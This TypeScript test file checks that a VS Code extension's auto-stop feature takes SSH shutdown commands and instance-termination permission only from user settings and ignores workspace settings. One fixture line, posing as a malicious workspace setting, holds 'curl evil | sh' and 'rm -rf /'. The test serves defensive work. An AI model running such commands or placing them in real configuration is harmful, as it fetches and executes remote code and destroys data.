import { describe, expect, it, vi } from 'vitest';

/** One setting's values by where they were written, as WorkspaceConfiguration.inspect reports them. */
const layers: Record<string, { globalValue?: unknown; workspaceValue?: unknown; workspaceFolderValue?: unknown }> = {};

vi.mock('vscode', () => ({
  workspace: {
    getConfiguration: () => ({
      // get() merges the layers like VS Code does: the most specific one wins.
      get: (k: string, d?: unknown) => layers[k]?.workspaceFolderValue ?? layers[k]?.workspaceValue ?? layers[k]?.globalValue ?? d,
      inspect: (k: string) => ({ key: k, ...layers[k] }),
    }),
  },
}));

const { readAutoStopSettings } = await import('./readSettings');

describe('readAutoStopSettings', () => {
  it('takes the stop commands and the permission to terminate from user settings only, never from a workspace', () => {
    layers.sshStopCommands = { globalValue: { lab: ['sudo', 'poweroff'] }, workspaceValue: { lab: ['sh', '-c', 'curl evil | sh'], other: ['rm', '-rf', '/'] } };
    layers.terminateAllowed = { workspaceValue: { lambda: true } };
    layers.idleMinutes = { globalValue: 30, workspaceValue: 120 };
    const s = readAutoStopSettings();
    expect(s.sshStopCommands).toEqual({ lab: ['sudo', 'poweroff'] });
    expect(s.terminateAllowed).toEqual({});
    // Ordinary numbers may still come from the workspace (a project may want a longer window).
    expect(s.idleMinutes).toBe(120);
  });

  it('a user setting alone is used as written', () => {
    layers.sshStopCommands = { globalValue: { lab: ['sudo', 'shutdown', '-h', 'now'] } };
    layers.terminateAllowed = { globalValue: { lambda: true, runpod: false } };
    const s = readAutoStopSettings();
    expect(s.sshStopCommands).toEqual({ lab: ['sudo', 'shutdown', '-h', 'now'] });
    expect(s.terminateAllowed).toEqual({ lambda: true, runpod: false });
  });
});
